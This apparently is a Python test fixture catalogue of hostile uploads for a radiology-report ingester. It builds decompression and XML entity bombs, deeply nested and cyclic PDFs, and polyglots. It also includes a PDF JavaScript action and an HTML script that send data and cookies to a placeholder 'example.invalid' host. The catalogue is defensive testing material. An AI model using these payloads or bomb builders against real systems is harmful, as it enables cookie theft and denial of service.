"""A catalogue of hostile and broken uploads, generated at test time (nothing binary is committed).

Each ``Hostile`` says what ingest must do with it: ``REFUSED`` (a ReadingError whose message holds
``fragment``), ``READ`` (a Report; ``fragment`` is then a phrase of the report text that must be read) or
``EITHER`` (pictures and scans: OCR may read them or refuse them, but nothing else may happen).
Builders are cached: the large ones (a 1 GB flate bomb, 100,000 ZIP entries) are built once per session.
"""

from __future__ import annotations

import codecs
import gzip
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum
from functools import cache

from PIL import Image

from tests import filegen

MB = 1024 * 1024
REPORT = "FINDINGS: No suspicious mass or calcification. IMPRESSION: Negative. BI-RADS 1."
PDF_MIME = "application/pdf"
DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TEXT_MIME = "text/plain"
BINARY_MIME = "application/octet-stream"


class Expect(StrEnum):
    REFUSED = "refused"
    READ = "read"
    EITHER = "either"  # a picture or a scan: OCR reads it or refuses it, nothing else


@dataclass(frozen=True)
class Hostile:
    name: str  # the file name as uploaded (its extension is often a lie)
    build: Callable[[], bytes]
    mime: str
    expect: Expect
    fragment: str = ""  # REFUSED: in the message (case-insensitive); READ: in the report text
    exact: bool = False  # READ: the report text is exactly REPORT, nothing else from the file

    @property
    def data(self) -> bytes:
        return self.build()

    @property
    def id(self) -> str:
        return self.name.replace(".", "-")


# --- hand-made PDFs ------------------------------------------------------------------------------


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF from object bodies numbered 1..n, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def text_content(text: str = REPORT) -> bytes:
    return b"BT /F1 11 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page_pdf(page_extra: bytes = b"", catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (),
                 content: bytes | None = None) -> bytes:
    """Catalog 1, Pages 2, Page 3, content 4, font 5, then ``extra_objects`` as 6, 7..."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        stream(content if content is not None else text_content()),
        FONT,
        *extra_objects,
    ])


@cache
def pdf_with_javascript() -> bytes:
    script = b"app.alert('pwned'); this.submitForm('http://example.invalid/steal');"
    return one_page_pdf(
        page_extra=b"/AA << /O 6 0 R >>",
        catalog_extra=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >>",
        extra_objects=(b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>",),
    )


@cache
def pdf_declaring_100000_pages() -> bytes:
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 100000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream(text_content()),
        FONT,
    ])


@cache
def pdf_with_100_pages() -> bytes:
    return filegen.make_pdf([[f"Page {n}: FINDINGS: No suspicious mass."] for n in range(100)])


@cache
def pdf_with_deep_arrays(depth: int = 10_000) -> bytes:
    """Arrays nested ``depth`` deep, in the page, the document info and the catalog."""
    deep = b"[" * depth + b"1" + b"]" * depth
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> /Deep 6 0 R >>",
        stream(text_content()),
        FONT,
        deep,
        b"<< /Title 6 0 R /Producer (deep) >>",
    ], trailer=b"/Root 1 0 R /Info 7 0 R")


@cache
def pdf_with_deep_dictionaries(depth: int = 10_000) -> bytes:
    deep = b"<< /A " * depth + b"1" + b" >>" * depth
    return one_page_pdf(page_extra=b"/Deep 6 0 R", extra_objects=(deep,))


@cache
def pdf_with_page_tree_cycle() -> bytes:
    """The page tree's Kids point back at the tree itself (and at an intermediate node that does too)."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [6 0 R 3 0 R 2 0 R] /Count 3 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream(text_content()),
        FONT,
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R] /Count 1 >>",
    ])


@cache
def pdf_with_no_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def flate_bomb(prefix: bytes, megabytes: int) -> bytes:
    """A zlib stream of ``prefix`` then ``megabytes`` MB of spaces, built without compressing them all.

    After a full flush deflate forgets what came before, so every 1 MB of spaces compresses to the
    same bytes: compress it once, repeat the bytes, end with an empty final block and the checksum.
    """
    squeeze = zlib.compressobj(9)
    chunk = b" " * MB
    head = squeeze.compress(prefix) + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = squeeze.compress(chunk) + squeeze.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(prefix)
    for _ in range(megabytes):
        checksum = zlib.adler32(chunk, checksum)
    return head + block * megabytes + b"\x03\x00" + struct.pack(">I", checksum)


@cache
def flate_bomb_pdf(gigabytes: int = 1) -> bytes:
    """One page whose content stream inflates to ``gigabytes`` GB of spaces (about 1 MB compressed)."""
    content = flate_bomb(text_content() + b"\n", 1024 * gigabytes)
    return one_page_pdf(content=content).replace(b"/Length", b"/Filter /FlateDecode /Length", 1)


def truncated_pdf(fraction: float) -> bytes:
    data = filegen.make_pdf([[REPORT], [REPORT]])
    return data[: int(len(data) * fraction)]


# --- pictures ------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@cache
def png_huge_dimensions() -> bytes:
    """A PNG declaring 100000 × 100000 pixels (30 GB decoded) with a tiny IDAT."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + _png_chunk(b"IEND", b""))


def _picture(fmt: str, size: tuple[int, int] = (600, 800)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color=(230, 230, 230)).save(buffer, format=fmt)
    return buffer.getvalue()


@cache
def png_corrupt_body() -> bytes:
    data = _picture("PNG")
    return data[:60] + bytes(reversed(data[60:-20])) + data[-20:]


@cache
def jpeg_corrupt_body() -> bytes:
    data = _picture("JPEG")
    return data[: len(data) // 3]


# --- Word files and ZIPs -------------------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxml'
    b'formats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def _docx_parts(document_xml: bytes) -> dict[str, bytes]:
    return {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS, "word/document.xml": document_xml}


@cache
def docx_billion_laughs() -> bytes:
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    document = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [' + entities + b']>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        b"<w:p><w:r><w:t>FINDINGS: No mass. &lol9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return filegen.make_zip(_docx_parts(document))


@cache
def docx_malformed_xml() -> bytes:
    return filegen.make_zip(_docx_parts(b'<?xml version="1.0"?><w:document><w:body><w:p>FINDINGS'))


@cache
def zip_with_100000_entries() -> bytes:
    """100,000 empty entries beside a word/document.xml: the archive's directory is the attack.

    Written by hand (zipfile takes seconds for this many entries): stored entries, then the central
    directory, then the ZIP64 end records that a count over 65,535 needs.
    """
    parts = _docx_parts(b"<w:document/>")
    entries = [(name.encode(), content) for name, content in parts.items()]
    entries += [(b"%x" % number, b"") for number in range(100_000)]
    local, central = bytearray(), bytearray()
    for name, content in entries:
        crc, size = zlib.crc32(content), len(content)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc, size, size, len(name),
                               0, 0, 0, 0, 0, len(local)) + name
        local += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, size, size, len(name), 0)
        local += name + content
    end64 = len(local) + len(central)
    count = len(entries)
    tail = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(central), len(local))
    tail += struct.pack("<4sLQL", b"PK\x06\x07", 0, end64, 1)
    tail += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(central), len(local), 0)
    return bytes(local + central + tail)


@cache
def pdf_zip_polyglot() -> bytes:
    """A text PDF with a ZIP appended: a valid PDF and (read from its end) a valid ZIP."""
    return filegen.make_pdf([[REPORT]]) + filegen.make_zip({"payload.txt": b"not the report"})


@cache
def png_with_appended_pdf() -> bytes:
    """A tiny PNG followed by a text PDF: the PDF header sits within the first KB, as readers allow."""
    return filegen.make_png() + filegen.make_pdf([[REPORT]])


# --- text ----------------------------------------------------------------------------------------

ELF_HEADER = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(40)
SCRIPT_HTML = (
    "<!DOCTYPE html><html><head><script>fetch('http://example.invalid/?c='+document.cookie)</script></head>"
    f"<body><p>{REPORT}</p><img src=x onerror=alert(1)></body></html>"
)
SCRIPT_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
    f"<text x='0' y='15'>{REPORT}</text></svg>"
)


def nul_laced(every: int) -> bytes:
    """The report with a NUL byte after every ``every`` characters."""
    raw = REPORT.encode("ascii")
    return b"".join(raw[i: i + every] + b"\x00" for i in range(0, len(raw), every))


HOSTILE: tuple[Hostile, ...] = (
    # Nothing to read.
    Hostile("empty.txt", lambda: b"", TEXT_MIME, Expect.REFUSED, "empty"),
    Hostile("whitespace.txt", lambda: b" \t\r\n" * 500, TEXT_MIME, Expect.REFUSED, "no text"),
    Hostile("controls.txt", lambda: bytes(range(1, 9)) * 300, TEXT_MIME, Expect.REFUSED, "readable text"),
    # Broken and locked PDFs.
    Hostile("cut-10.pdf", lambda: truncated_pdf(0.1), PDF_MIME, Expect.REFUSED, "damaged"),
    Hostile("cut-50.pdf", lambda: truncated_pdf(0.5), PDF_MIME, Expect.REFUSED, "damaged"),
    Hostile("cut-90.pdf", lambda: truncated_pdf(0.9), PDF_MIME, Expect.REFUSED, "damaged"),
    Hostile("header-only.pdf", lambda: b"%PDF-1.7\n", PDF_MIME, Expect.REFUSED, "damaged"),
    Hostile("no-pages.pdf", pdf_with_no_pages, PDF_MIME, Expect.REFUSED, "damaged"),
    Hostile("locked.pdf", lambda: filegen.make_pdf([[REPORT]], encrypt="secret"), PDF_MIME, Expect.REFUSED,
            "password"),
    # PDFs that attack the reader.
    Hostile("javascript.pdf", pdf_with_javascript, PDF_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("hundred-pages.pdf", pdf_with_100_pages, PDF_MIME, Expect.REFUSED, "100 pages"),
    Hostile("declares-100000-pages.pdf", pdf_declaring_100000_pages, PDF_MIME, Expect.REFUSED, "100000 pages"),
    Hostile("deep-arrays.pdf", pdf_with_deep_arrays, PDF_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("deep-dictionaries.pdf", pdf_with_deep_dictionaries, PDF_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("page-tree-cycle.pdf", pdf_with_page_tree_cycle, PDF_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("flate-bomb.pdf", flate_bomb_pdf, PDF_MIME, Expect.REFUSED, "unpacks to"),
    Hostile("scan.pdf", lambda: filegen.make_image_only_pdf(2), PDF_MIME, Expect.EITHER),
    # Pictures.
    Hostile("huge.png", png_huge_dimensions, "image/png", Expect.EITHER),
    Hostile("corrupt.png", png_corrupt_body, "image/png", Expect.EITHER),
    Hostile("corrupt.jpg", jpeg_corrupt_body, "image/jpeg", Expect.EITHER),
    Hostile("picture.gif", lambda: _picture("GIF"), "image/gif", Expect.EITHER),
    Hostile("picture.bmp", lambda: _picture("BMP"), "image/bmp", Expect.EITHER),
    # Polyglots and ZIPs.
    Hostile("polyglot-pdf-zip.pdf", pdf_zip_polyglot, PDF_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("png-then-pdf.png", png_with_appended_pdf, "image/png", Expect.READ, "No suspicious mass", exact=True),
    Hostile("page.pdf", lambda: SCRIPT_HTML.encode(), PDF_MIME, Expect.READ, "No suspicious mass"),
    Hostile("archive.docx", lambda: filegen.make_zip({"notes.txt": b"hello"}), DOCX_MIME, Expect.REFUSED,
            "ZIP archive"),
    Hostile("malformed-xml.docx", docx_malformed_xml, DOCX_MIME, Expect.REFUSED, "damaged"),
    Hostile("billion-laughs.docx", docx_billion_laughs, DOCX_MIME, Expect.REFUSED, "damaged"),
    Hostile("zip-bomb.docx", filegen.make_docx_bomb, DOCX_MIME, Expect.REFUSED, "unpacks to"),
    Hostile("many-entries.docx", zip_with_100000_entries, DOCX_MIME, Expect.REFUSED, "too many parts"),
    Hostile("old-word.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), DOCX_MIME,
            Expect.REFUSED, "older Word"),
    # Wrong extensions: read by content.
    Hostile("pdf-named.txt", lambda: filegen.make_pdf([[REPORT]]), TEXT_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("docx-named.pdf", lambda: filegen.make_docx([REPORT]), PDF_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("text-named.docx", lambda: REPORT.encode(), DOCX_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("report.pdf", lambda: ELF_HEADER + bytes(4096), PDF_MIME, Expect.REFUSED, "ELF"),
    Hostile("archive.txt", lambda: gzip.compress(REPORT.encode()),
            TEXT_MIME, Expect.REFUSED, "not supported"),
    # Encodings.
    Hostile("utf16le-bom.txt", lambda: codecs.BOM_UTF16_LE + REPORT.encode("utf-16-le"), TEXT_MIME, Expect.READ,
            "No suspicious mass", exact=True),
    Hostile("utf16be-bom.txt", lambda: codecs.BOM_UTF16_BE + REPORT.encode("utf-16-be"), TEXT_MIME, Expect.READ,
            "No suspicious mass", exact=True),
    Hostile("utf16le.txt", lambda: REPORT.encode("utf-16-le"), TEXT_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("utf16be.txt", lambda: REPORT.encode("utf-16-be"), TEXT_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("stray-nuls.txt", lambda: nul_laced(40), TEXT_MIME, Expect.READ, "No suspicious mass", exact=True),
    Hostile("nul-laced.txt", lambda: nul_laced(3), TEXT_MIME, Expect.REFUSED, "readable text"),
    Hostile("bad-utf8.txt", lambda: REPORT.encode().replace(b" mass", b" \xc3\x28mass\xff"), TEXT_MIME,
            Expect.READ, "suspicious"),
    Hostile("script.svg.txt", lambda: SCRIPT_SVG.encode(), TEXT_MIME, Expect.READ, "No suspicious mass"),
    Hostile("script.html.txt", lambda: SCRIPT_HTML.encode(), TEXT_MIME, Expect.READ, "No suspicious mass"),
    # Too much.
    Hostile("long.txt", lambda: (REPORT + "\n").encode() * 2600, TEXT_MIME, Expect.REFUSED, "too long"),
    Hostile("one-long-line.txt", lambda: b"no " * 70_000, TEXT_MIME, Expect.REFUSED, "too long"),
    Hostile("over-10mb.txt", lambda: b"a" * (10 * MB + 1), TEXT_MIME, Expect.REFUSED, "the limit is 10 MB"),
)
